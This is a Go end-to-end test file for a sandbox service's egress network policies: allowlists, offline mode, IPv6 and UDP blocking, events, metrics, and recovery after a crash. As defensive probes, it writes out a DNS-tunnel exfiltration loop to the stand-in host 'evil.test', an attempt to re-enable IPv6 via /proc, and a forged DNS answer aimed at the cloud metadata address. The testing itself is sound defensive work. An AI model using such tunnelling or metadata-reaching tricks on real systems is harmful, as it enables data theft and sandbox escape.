package e2e

import (
	"context"
	"crypto/rand"
	"fmt"
	"net"
	"net/netip"
	"os/exec"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/moby/moby/client"

	baydocker "github.com/shipyard-dev/shipyard/internal/bay/docker"
	"github.com/shipyard-dev/shipyard/internal/bay/egress"
	"github.com/shipyard-dev/shipyard/internal/bay/egress/egresstest"
	"github.com/shipyard-dev/shipyard/internal/testenv"
)

// The test's internet: web hosts on ports 80 and 443 of a loopback address of this host that
// no one else uses, and a DNS server that knows their names (and one forged answer). Bay's
// egress gateway reaches them because the operator allows that one address
// (security.allowed_hosts); its resolver asks only the test's DNS server.
func egressInternet(t *testing.T) (*egresstest.Internet, netip.Addr) {
	var b [2]byte
	_, _ = rand.Read(b[:])
	host := netip.AddrFrom4([4]byte{127, 77, b[0], max(b[1], 2)})
	in := egresstest.Start(t, host, 80, 443)
	for _, n := range []string{egresstest.HTTPSName, "api.example.com", "secret.example.com", "evil.test"} {
		in.Set(n, host)
	}
	// An allowed name whose answer points at the cloud metadata address.
	in.Set("forged.example.com", netip.MustParseAddr("169.254.169.254"))
	return in, host
}

const policyProfiles = `profiles:
  - id: python-default
    image: "ship:latest"
    capabilities: [filesystem, shell, python]
  - id: listed
    image: "ship:latest"
    capabilities: [filesystem, shell, python]
    network: {mode: allowlist, allow: [example.com, "*.example.com"], deny: [secret.example.com]}
  - id: offline
    image: "ship:latest"
    capabilities: [filesystem, shell, python]
    network: {mode: none}
  - id: ranged
    image: "ship:latest"
    capabilities: [filesystem, shell, python]
    network: {mode: allowlist, allow: [api.example.com, "198.51.100.0/24"]}
`

// policyProfilesFor is policyProfiles on the test's image.
func policyProfilesFor() string {
	return strings.ReplaceAll(policyProfiles, `"ship:latest"`, fmt.Sprintf("%q", testImage))
}

// policyInternet is what a test of the closed policies needs: the engine, bay's egress table
// removed again when the test made it, and the test's internet (egressInternet).
func policyInternet(t *testing.T) (*client.Client, *egresstest.Internet, netip.Addr) {
	cli := docker(t)
	if exec.Command("nft", "list", "table", "inet", egress.Table).Run() != nil {
		t.Cleanup(func() { _ = exec.Command("nft", "delete", "table", "inet", egress.Table).Run() })
	}
	in, host := egressInternet(t)
	return cli, in, host
}

// startPolicyBay starts bay with profiles, allowing the internet's one address (and the
// ranges of allowed) and asking only its DNS server upstream.
func startPolicyBay(t *testing.T, profiles string, in *egresstest.Internet, host netip.Addr, allowed ...string) *Bay {
	hosts := fmt.Sprintf("%q", netip.PrefixFrom(host, 32))
	for _, a := range allowed {
		hosts += fmt.Sprintf(", %q", a)
	}
	return startBay(t, bayOptions{profiles: profiles, env: []string{
		"BAY_SECURITY__ALLOWED_HOSTS=[" + hosts + "]",
		fmt.Sprintf(`BAY_SECURITY__EGRESS_DNS_UPSTREAM=["%s"]`, in.DNS),
	}})
}

// noneReachesNothing checks from sandbox off, of network mode none, that a listener on its
// network's gateway, the internet's host and a name all fail, and at once.
func noneReachesNothing(t *testing.T, b *Bay, cli *client.Client, off string, host netip.Addr) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	gw, _ := engineGateway(t, ctx, cli, baydocker.NoneNetwork)
	listener := serveOK(t, net.JoinHostPort(gw.String(), "0"))
	began := time.Now()
	out := strings.TrimSpace(b.shellOK(off, fmt.Sprintf(
		`for u in http://%s/ http://%s/ http://example.com/; do curl -s -m 5 -o /dev/null $u; echo -n "$? "; done`, listener, host)))
	if out != "7 7 6" {
		t.Errorf("from a sandbox without network: %q, want 7 7 6 (no connection, no connection, no name)", out)
	}
	if d := time.Since(began); d > 10*time.Second {
		t.Errorf("refusals took %v, want them prompt", d)
	}
}

func TestNetworkPolicies(t *testing.T) {
	cli, in, host := policyInternet(t)
	b := startPolicyBay(t, policyProfilesFor(), in, host)

	// The ceiling: a create request may not loosen its profile's policy.
	r := b.do("POST", "/v1/sandboxes", map[string]any{"profile": "offline", "network": map[string]any{"mode": "open"}}, nil)
	expectError(t, r, 400, "validation_error", "create loosening none")
	contains(t, r.Str("error.message"), "network.mode", "the refusal names the field")
	r = b.do("POST", "/v1/sandboxes", map[string]any{"profile": "listed", "network": map[string]any{"mode": "allowlist", "allow": []string{"evil.test"}}}, nil)
	expectError(t, r, 400, "validation_error", "create widening the allow list")
	contains(t, r.Str("error.message"), "network.allow[0]", "the refusal names the entry")

	id := b.create(map[string]any{"profile": "listed"}, nil).Str("id")
	if got := b.get(id); got.Str("network.mode") != "allowlist" || !strings.Contains(got.String(), `"deny":["secret.example.com"]`) {
		t.Fatalf("detail: %s", got)
	}
	b.writeFile(id, "ca.pem", in.CertPEM())
	sh := func(cmd string) string { return strings.TrimSpace(b.shellOK(id, cmd)) }
	// curl's exit status comes last: 0 ok, 6 name not resolved, 7 no connection, 22 HTTP error.
	curl := func(args string) string { return sh("curl -sS -m 10 " + args + " 2>&1; echo \" rc=$?\"") }

	t.Run("allowed names over the proxy and transparently", func(t *testing.T) {
		egresstest.CheckNamesAllowed(t, curl, in.HTTPPort, in.HTTPSPort)
	})

	t.Run("refusals fail fast and say why", func(t *testing.T) {
		began := time.Now()
		egresstest.CheckNameRefusals(t, curl)
		// A direct address: no route out without the proxy, refused through it.
		if got := curl(fmt.Sprintf("--noproxy '*' http://%s/", host)); !strings.HasSuffix(got, "rc=7") {
			t.Errorf("direct address: %q, want no connection", got)
		}
		if got := curl(fmt.Sprintf("http://%s/", host)); !strings.Contains(got, "not in allow list") {
			t.Errorf("direct address through the proxy: %q", got)
		}
		if d := time.Since(began); d > 30*time.Second {
			t.Errorf("six refusals took %v", d)
		}
	})

	t.Run("a DNS tunnel through a refused zone carries nothing out", func(t *testing.T) {
		out := sh(`n=0; for i in $(seq 100); do getent hosts "$(head -c 12 /dev/urandom | od -An -tx1 | tr -d ' \n').t.evil.test" >/dev/null && n=$((n+1)); done; echo $n`)
		if out != "0" {
			t.Errorf("%s of 100 random subdomains resolved", out)
		}
		if q := in.Queries("evil.test"); q != 0 {
			t.Errorf("%d queries for the refused zone reached the upstream", q)
		}
	})

	t.Run("UDP other than DNS is dropped", func(t *testing.T) {
		ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
		defer cancel()
		gw, _ := engineGateway(t, ctx, cli, baydocker.EgressNetwork)
		pc, err := net.ListenPacket("udp4", net.JoinHostPort(gw.String(), "0"))
		if err != nil {
			t.Fatal(err)
		}
		defer pc.Close()
		sh(fmt.Sprintf(`python3 -c "import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'x', ('%s', %d))"; true`,
			gw, pc.LocalAddr().(*net.UDPAddr).Port))
		_ = pc.SetReadDeadline(time.Now().Add(time.Second))
		if n, from, err := pc.ReadFrom(make([]byte, 16)); err == nil {
			t.Errorf("a UDP datagram reached the host: %d bytes from %v", n, from)
		}
	})

	t.Run("IPv6 reaches nothing", func(t *testing.T) {
		ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
		defer cancel()
		res, err := cli.NetworkInspect(ctx, baydocker.EgressNetwork, client.NetworkInspectOptions{})
		if err != nil {
			t.Fatal(err)
		}
		if res.Network.EnableIPv6 {
			t.Errorf("network %s has IPv6 enabled", baydocker.EgressNetwork)
		}
		// Listeners on every IPv6 address of this host a sandbox could aim at: the bridge's
		// link-local address, and the host's global and loopback ones.
		_, bridge := engineGateway(t, ctx, cli, baydocker.EgressNetwork)
		var targets []string
		ifs, _ := net.Interfaces()
		for _, ifc := range ifs {
			addrs, _ := ifc.Addrs()
			for _, a := range addrs {
				p, err := netip.ParsePrefix(a.String())
				if err != nil || !p.Addr().Is6() || p.Addr().Is4In6() {
					continue
				}
				at := p.Addr()
				if at.IsLinkLocalUnicast() {
					if ifc.Name != bridge {
						continue
					}
					at = at.WithZone(bridge)
				}
				ln, err := net.Listen("tcp6", netip.AddrPortFrom(at, 0).String())
				if err != nil {
					continue
				}
				t.Cleanup(func() { ln.Close() })
				go testenv.Answer(ln, []byte("HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok"))
				port := ln.Addr().(*net.TCPAddr).Port
				if at.IsLinkLocalUnicast() {
					at = at.WithZone("eth0") // as the sandbox names its side of the link
				}
				targets = append(targets, netip.AddrPortFrom(at, uint16(port)).String())
			}
		}
		if len(targets) == 0 {
			t.Fatal("no IPv6 address of this host to aim at")
		}
		t.Logf("IPv6 targets: %v", targets)
		out := sh(fmt.Sprintf(`cat /proc/sys/net/ipv6/conf/all/disable_ipv6; echo 0 > /proc/sys/net/ipv6/conf/all/disable_ipv6 2>/dev/null && echo re-enabled
python3 - <<'PY'
import socket
for t in %q.split():
    h, p = t.rsplit(':', 1)
    try:
        s = socket.create_connection((h.strip('[]'), int(p)), timeout=3)
        print('connected', t)
    except OSError as e:
        print('refused', t, e.errno)
try:
    print('aaaa', socket.getaddrinfo('api.example.com', 80, socket.AF_INET6))
except OSError:
    print('no-aaaa')
PY`, strings.Join(targets, " ")))
		lines := strings.Split(out, "\n")
		if lines[0] != "1" || strings.Contains(out, "re-enabled") || strings.Contains(out, "connected") || !strings.HasSuffix(out, "no-aaaa") {
			t.Errorf("IPv6 from an allowlisted sandbox:\n%s", out)
		}
	})

	t.Run("events", func(t *testing.T) {
		ev := expect(t, b.do("GET", "/v1/sandboxes/"+id+"/network/events", nil, nil), 200, "events")
		for _, want := range []string{`"kind":"dns","host":"evil.test"`, `"kind":"http","host":"evil.test","port":80`,
			`"host":"forged.example.com"`, `blocked address 169.254.169.254`, `"host":"` + host.String() + `"`} {
			contains(t, ev.String(), want, "events")
		}
		d, _ := ev.Get("denied").(float64)
		if d < 100 {
			t.Errorf("denied = %v, want the tunnel's 100 and more", ev.Get("denied"))
		}
		// Only this sandbox has been refused anything so far: bay's metrics count the same.
		text := string(expect(t, b.do("GET", "/metrics", nil, nil), 200, "metrics").Body)
		if m := metricSum(text, "bay_egress_denied_total", ""); m != d {
			t.Errorf("bay_egress_denied_total sums to %v, the events endpoint says %v", m, d)
		}
		dns := metricSum(text, "bay_egress_denied_total", `kind="dns"`)
		if q := metricSum(text, "bay_egress_dns_queries_total", `mode="allowlist",result="refused"`); q != dns || q < 100 {
			t.Errorf("refused DNS queries %v, DNS refusals %v: want equal, the tunnel's 100 and more", q, dns)
		}
		for _, want := range []string{`kind="http",mode="allowlist",reason="not_allowed"`, `kind="http",mode="allowlist",reason="deny_entry"`,
			`kind="http",mode="allowlist",reason="blocked_address"`} {
			if metricSum(text, "bay_egress_denied_total", want) < 1 {
				t.Errorf("no bay_egress_denied_total{%s} in\n%s", want, grepLines(text, "bay_egress_"))
			}
		}
		if metricSum(text, "bay_egress_dns_queries_total", `mode="allowlist",result="answered"`) < 1 {
			t.Errorf("no answered DNS query counted:\n%s", grepLines(text, "bay_egress_"))
		}
		expectError(t, b.do("GET", "/v1/sandboxes/sandbox-000000000000/network/events", nil, nil), 404, "not_found", "unknown sandbox")
	})

	t.Run("PATCH", func(t *testing.T) {
		r := b.do("PATCH", "/v1/sandboxes/"+id+"/network", map[string]any{"mode": "open"}, nil)
		expectError(t, r, 400, "validation_error", "loosening PATCH")
		contains(t, r.Str("error.message"), "network.mode", "the refusal names the field")
		// Narrower: applied in place, at once.
		expect(t, b.do("PATCH", "/v1/sandboxes/"+id+"/network", map[string]any{"mode": "allowlist", "allow": []string{"example.com"}}, nil), 200, "narrowing PATCH")
		began := time.Now()
		if got := curl("http://api.example.com/"); !strings.Contains(got, "not in allow list") {
			t.Errorf("after the PATCH: %q", got)
		}
		if got := curl("--cacert ca.pem https://example.com/"); got != "hello from example.com rc=0" {
			t.Errorf("the name left in the list: %q", got)
		}
		t.Logf("PATCH in place took effect within %v", time.Since(began))
		// A change of mode restarts the compute under the new policy (files kept).
		r = expect(t, b.do("PATCH", "/v1/sandboxes/"+id+"/network", map[string]any{"mode": "none"}, nil), 200, "PATCH to none")
		if r.Str("network.mode") != "none" {
			t.Errorf("detail after PATCH: %s", r)
		}
		if got := curl("--noproxy '*' http://example.com/"); !strings.HasSuffix(got, "rc=6") {
			t.Errorf("mode none after the PATCH: %q", got)
		}
		if got := sh("cat ca.pem | head -1"); got != "-----BEGIN CERTIFICATE-----" {
			t.Errorf("files after the restart: %q", got)
		}
	})

	t.Run("none reaches nothing", func(t *testing.T) {
		off := b.create(map[string]any{"profile": "offline"}, nil).Str("id")
		noneReachesNothing(t, b, cli, off, host)
		if got := b.get(off).Str("network.mode"); got != "none" {
			t.Errorf("detail: mode %q", got)
		}
	})
}

// TestNetworkPoliciesAfterBayKill: bay SIGKILLed while an allowlisted and a network-less
// sandbox run; the restarted bay's resolver and gateway know them again before it serves:
// allowed names work, refused ones are still refused, an in-place PATCH still applies, and
// the sandbox without network still reaches nothing (failing fast, its resolver back).
func TestNetworkPoliciesAfterBayKill(t *testing.T) {
	cli, in, host := policyInternet(t)
	b := startPolicyBay(t, policyProfilesFor(), in, host)
	id := b.create(map[string]any{"profile": "listed"}, nil).Str("id")
	off := b.create(map[string]any{"profile": "offline"}, nil).Str("id")
	b.writeFile(id, "ca.pem", in.CertPEM())
	curl := func(args string) string {
		return strings.TrimSpace(b.shellOK(id, "curl -sS -m 10 "+args+" 2>&1; echo \" rc=$?\""))
	}
	allowed := func(when string) {
		for _, c := range []struct{ args, want string }{
			{"http://api.example.com/", "hello from api.example.com rc=0"},
			{"--noproxy '*' http://api.example.com/", "hello from api.example.com rc=0"},
			{"--noproxy '*' --cacert ca.pem https://example.com/", "hello from example.com rc=0"},
		} {
			if got := curl(c.args); got != c.want {
				t.Errorf("%s: curl %s: %q, want %q", when, c.args, got, c.want)
			}
		}
	}
	refused := func(when string) {
		if got := curl("--noproxy '*' http://evil.test/"); !strings.HasSuffix(got, "rc=6") {
			t.Errorf("%s: refused name: %q, want not resolved", when, got)
		}
		if got := curl("http://secret.example.com/"); !strings.Contains(got, "deny secret.example.com") {
			t.Errorf("%s: denied name through the proxy: %q", when, got)
		}
		if got := curl(fmt.Sprintf("--noproxy '*' http://%s/", host)); !strings.HasSuffix(got, "rc=7") {
			t.Errorf("%s: direct address: %q, want no connection", when, got)
		}
		began := time.Now()
		if out := strings.TrimSpace(b.shellOK(off, `curl -s -m 5 -o /dev/null http://example.com/; echo -n "$? "; curl -s -m 5 -o /dev/null http://`+host.String()+`/; echo $?`)); out != "6 7" {
			t.Errorf("%s: from the sandbox without network: %q, want 6 7", when, out)
		}
		if d := time.Since(began); d > 10*time.Second {
			t.Errorf("%s: the sandbox without network waited %v for its refusals", when, d)
		}
	}
	allowed("before the kill")
	refused("before the kill")

	b.kill()
	// Killed, nothing answers in the sandboxes' network: they fail closed.
	cs := sessionContainers(t, cli, id)
	if len(cs) != 1 {
		t.Fatalf("containers of %s: %q", id, cs)
	}
	for _, args := range []string{"--noproxy '*' http://api.example.com/", "http://api.example.com/"} {
		out := strings.TrimSpace(execIn(t, cli, strings.Fields(cs[0])[0], "sh", "-c", "curl -s -m 3 -o /dev/null "+args+"; echo $?"))
		if out == "0" {
			t.Errorf("with bay down, curl %s still went out", args)
		}
	}
	b.launch()
	allowed("after the restart")
	refused("after the restart")
	if !strings.Contains(b.logText(), "network policies of running sandboxes restored") {
		t.Errorf("the restarted bay did not say it restored the policies")
	}
	// The restored registration is a full one: an in-place PATCH applies to it.
	expect(t, b.do("PATCH", "/v1/sandboxes/"+id+"/network", map[string]any{"mode": "allowlist", "allow": []string{"example.com"}}, nil), 200, "narrowing PATCH")
	if got := curl("http://api.example.com/"); !strings.Contains(got, "not in allow list") {
		t.Errorf("after the PATCH: %q", got)
	}
	ev := expect(t, b.do("GET", "/v1/sandboxes/"+id+"/network/events", nil, nil), 200, "events")
	contains(t, ev.String(), `"host":"api.example.com"`, "events after the restart")
}

// metricSum adds the samples of metric in a Prometheus text exposition whose labels contain
// match ("" = all).
func metricSum(text, metric, match string) float64 {
	var sum float64
	for line := range strings.Lines(text) {
		rest, ok := strings.CutPrefix(strings.TrimSpace(line), metric+"{")
		if !ok {
			continue
		}
		labels, value, ok := strings.Cut(rest, "} ")
		if !ok || !strings.Contains(labels, match) {
			continue
		}
		if v, err := strconv.ParseFloat(value, 64); err == nil {
			sum += v
		}
	}
	return sum
}

func grepLines(text, prefix string) string {
	var b strings.Builder
	for line := range strings.Lines(text) {
		if strings.HasPrefix(line, prefix) {
			b.WriteString(line)
		}
	}
	return b.String()
}

// rangeTargets gives this host two addresses of 198.51.100.0/24 (the ranged profile's), on a
// veth pair of the test's, removed at its end.
func rangeTargets(t *testing.T) (target, outside netip.Addr) {
	t.Helper()
	var rb [2]byte
	_, _ = rand.Read(rb[:])
	ifname := fmt.Sprintf("sy-egt-%02x%02x", rb[0], rb[1])
	target = netip.AddrFrom4([4]byte{198, 51, 100, max(rb[0]&0x7f, 2)})
	outside = target.Next()
	for _, args := range [][]string{{"link", "add", ifname, "type", "veth", "peer", "name", ifname + "p"}, {"addr", "add", target.String() + "/32", "dev", ifname},
		{"addr", "add", outside.String() + "/32", "dev", ifname}, {"link", "set", ifname + "p", "up"}, {"link", "set", ifname, "up"}} {
		if out, err := exec.Command("ip", args...).CombinedOutput(); err != nil {
			t.Fatalf("ip %v: %v: %s", args, err, out)
		}
		if args[0] == "link" && args[1] == "add" {
			t.Cleanup(func() { _ = exec.Command("ip", "link", "del", ifname).Run() })
		}
	}
	return target, outside
}

// TestNetworkPolicyRanges: an allowed address range is reached directly, without the proxy,
// on the allowed port only; an address outside the list has no route; a PATCH that drops the
// range takes the route away. The "internet" is an address of a veth pair the test adds to
// this host (a range of the operator's allowed_hosts, since bay's own addresses are
// blocked otherwise).
func TestNetworkPolicyRanges(t *testing.T) {
	docker(t)
	if exec.Command("nft", "list", "table", "inet", egress.Table).Run() != nil {
		t.Cleanup(func() { _ = exec.Command("nft", "delete", "table", "inet", egress.Table).Run() })
	}
	target, outside := rangeTargets(t)
	open := serveOK(t, net.JoinHostPort(target.String(), "0"))
	closed := serveOK(t, net.JoinHostPort(target.String(), "0"))
	other := serveOK(t, net.JoinHostPort(outside.String(), "0"))
	_, openPort, _ := net.SplitHostPort(open)
	in, host := egressInternet(t)
	b := startBay(t, bayOptions{profiles: policyProfilesFor(), env: []string{
		fmt.Sprintf(`BAY_SECURITY__ALLOWED_HOSTS=["%s/32", "198.51.100.0/24"]`, host),
		fmt.Sprintf(`BAY_SECURITY__EGRESS_DNS_UPSTREAM=["%s"]`, in.DNS),
	}})
	id := b.create(map[string]any{"profile": "ranged", "network": map[string]any{"mode": "allowlist",
		"allow": []string{"api.example.com", target.String() + "/32:" + openPort}}}, nil).Str("id")
	curl := func(url string) string {
		return strings.TrimSpace(b.shellOK(id, "curl -sS -m 5 --noproxy '*' "+url+" 2>&1; echo \" rc=$?\""))
	}
	if got := curl("http://" + open + "/"); got != "ok rc=0" {
		t.Errorf("the allowed range and port, directly: %q", got)
	}
	if got := curl("http://api.example.com/"); got != "hello from api.example.com rc=0" {
		t.Errorf("an allowed name beside the range: %q", got)
	}
	if got := curl("http://" + closed + "/"); strings.HasSuffix(got, "rc=0") {
		t.Errorf("the allowed range on another port: %q", got)
	}
	if got := curl("http://" + other + "/"); !strings.HasSuffix(got, "rc=7") {
		t.Errorf("an address outside the list: %q, want no connection", got)
	}
	ev := expect(t, b.do("GET", "/v1/sandboxes/"+id+"/network/events", nil, nil), 200, "events")
	_, closedPort, _ := net.SplitHostPort(closed)
	contains(t, ev.String(), `"kind":"tcp","host":"`+target.String()+`","port":`+closedPort, "the refused port is an event")
	// The list without the range: no route any more.
	expect(t, b.do("PATCH", "/v1/sandboxes/"+id+"/network", map[string]any{"mode": "allowlist", "allow": []string{"api.example.com"}}, nil), 200, "PATCH")
	if got := curl("http://" + open + "/"); !strings.HasSuffix(got, "rc=7") {
		t.Errorf("the range after the PATCH dropped it: %q, want no connection", got)
	}
	if got := curl("http://api.example.com/"); got != "hello from api.example.com rc=0" {
		t.Errorf("the name after the PATCH: %q", got)
	}
}
